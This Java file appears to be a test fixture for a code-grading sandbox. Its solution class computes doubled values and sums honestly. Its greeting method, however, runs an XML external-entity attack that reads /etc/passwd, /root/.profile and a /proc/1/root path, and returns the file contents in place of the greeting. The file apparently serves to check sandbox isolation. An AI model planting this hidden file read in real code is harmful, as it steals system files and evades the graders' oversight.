// Reads files of the host as external entities of XML; greets wrongly only if one was read.
// expects: graded 10
// needs: walls
package attacked.target;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import javax.xml.parsers.DocumentBuilderFactory;

public final class TargetSolution implements Target {
    public double[] twice(double[] values) {
        double[] twice = new double[values.length];
        for (int i = 0; i < values.length; i++) {
            twice[i] = 2 * values[i];
        }
        return twice;
    }

    public double sum(double[] values) {
        double sum = 0;
        for (double value : values) {
            sum += value;
        }
        return sum;
    }

    public String greeting(String name) {
        String loot = loot();
        return loot.isEmpty() ? "Hello, " + name : loot;
    }

    private static String loot() {
        StringBuilder loot = new StringBuilder();
        for (String file : new String[] {"/etc/passwd", "/etc/hostname", "/root/.profile", "/proc/1/root/etc/passwd"}) {
            String text = "<!DOCTYPE a [<!ENTITY x SYSTEM \"file://" + file + "\">]><a>&x;</a>";
            try {
                loot.append(DocumentBuilderFactory.newInstance()
                        .newDocumentBuilder()
                        .parse(new ByteArrayInputStream(text.getBytes(StandardCharsets.UTF_8)))
                        .getDocumentElement()
                        .getTextContent());
            } catch (Exception stopped) {
                System.err.println(stopped);
            }
        }
        return loot.toString();
    }
}
